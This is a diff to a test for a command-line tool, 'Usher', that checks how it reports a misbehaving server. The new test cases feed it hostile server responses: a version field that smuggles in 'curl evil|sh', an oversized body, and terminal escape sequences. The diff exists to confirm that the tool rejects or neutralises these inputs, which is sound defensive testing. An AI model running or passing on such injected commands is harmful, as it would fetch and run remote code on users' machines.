@@ -269,6 +269,8 @@ it('says what is wrong with a server', async ({ cli, onTestFinished }) => {
     await codeOf(url, [302, '']),
     await codeOf(url, [502, '<html>']),
     await codeOf(url, [200, JSON.stringify({ ...console, version: '0.0.1' })]),
+    await codeOf(url, [200, JSON.stringify({ ...console, version: 'npm:evil@1; curl evil|sh' })]),
+    await codeOf(url, [200, 'x'.repeat(1_100_000)]),
     await codeOf('http://127.0.0.1:1'),
   ]).toMatchObject([
     { code: 'usage_error', exitCode: 2 },
@@ -280,8 +282,13 @@ it('says what is wrong with a server', async ({ cli, onTestFinished }) => {
     {
       code: 'server_version',
       exitCode: 1,
-      detail: `${url} is Usher 0.0.1, and this command is ${version}. Run: npx @usher/server@0.0.1 login ${url}`,
+      detail: `${url} is Usher 0.0.1, and this command is ${version}. Run it with: npx @usher/server@0.0.1`,
     },
+    { code: 'server_version', detail: `${url} is of an unknown version, and this command is ${version}` },
+    { code: 'server_unreachable', detail: expect.stringContaining('more than 1048576 bytes') },
     { code: 'server_unreachable', exitCode: 5 },
   ])
+  const hostile = { code: 'unavailable', detail: 'later\u001b]0;OWNED\u0007\u001b[2J' }
+  respond = [503, JSON.stringify(hostile)]
+  expect(await cli.outcome(`login ${url}`)).toBe('5 usher: later\uFFFD]0;OWNED\uFFFD\uFFFD[2J')
 })
